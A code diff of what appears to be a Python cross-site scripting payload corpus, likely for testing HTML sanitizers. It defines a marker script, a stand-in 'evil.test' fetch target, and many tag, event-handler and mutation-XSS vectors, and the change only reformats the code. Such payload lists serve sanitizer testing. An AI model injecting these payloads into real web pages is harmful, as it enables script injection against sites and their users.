@@ -3,7 +3,17 @@
 RUN = "window.__pwned=1"
 FETCH = "//evil.test/x"
 
-TAGS = ("img src=x", "svg", "body", "video src=x", "audio src=x", "iframe src=x", "input autofocus", "details open", "marquee")
+TAGS = (
+    "img src=x",
+    "svg",
+    "body",
+    "video src=x",
+    "audio src=x",
+    "iframe src=x",
+    "input autofocus",
+    "details open",
+    "marquee",
+)
 EVENTS = ("onerror", "onload", "onfocus", "ontoggle", "onstart", "onanimationstart", "onpointerenter")
 WHOLE = (
     f"<script>{RUN}</script>",
@@ -43,7 +53,7 @@ WHOLE = (
     f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
     f"<math href='javascript:{RUN}'>x</math>",
     f"<math><annotation-xml encoding='text/html'><img src=x onerror={RUN}></annotation-xml></math>",
-    f"<noscript><p title=\"</noscript><img src=x onerror={RUN}>\">",
+    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
     f"<listing>&lt;img src=x onerror={RUN}&gt;</listing>",
     f"<template><img src=x onerror={RUN}></template>",
     f"<xmp><img src=x onerror={RUN}></xmp>",
